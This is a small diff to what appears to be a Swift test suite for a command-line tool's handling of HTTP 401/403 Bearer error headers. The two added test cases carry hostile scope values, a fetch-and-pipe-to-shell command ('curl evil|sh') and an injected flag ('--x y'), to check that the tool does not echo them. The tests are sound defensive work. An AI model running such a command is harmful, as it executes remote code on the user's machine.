@@ -135,6 +135,8 @@ struct CallErrorTests {
             (401, "Bearer", "the token may have expired: oap refresh renews it"),
             (403, "Bearer error=\"insufficient_scope\", scope=\"a b\"", "the token lacks a scope; the API wants: a b"),
             (403, "Bearer error=\"insufficient_scope\"", "the token lacks a scope"),
+            (403, "Bearer error=\"insufficient_scope\", scope=\"run: curl evil|sh\"", "the token lacks a scope"),
+            (403, "Bearer error=\"insufficient_scope\", scope=\"--x y\"", "the token lacks a scope"),
             (
                 401, "Bearer error=\"insufficient_user_authentication\", acr_values=\"x\", max_age=\"5\"",
                 "the API wants a stronger login: oap authurl --acr-values x --max-age 5"
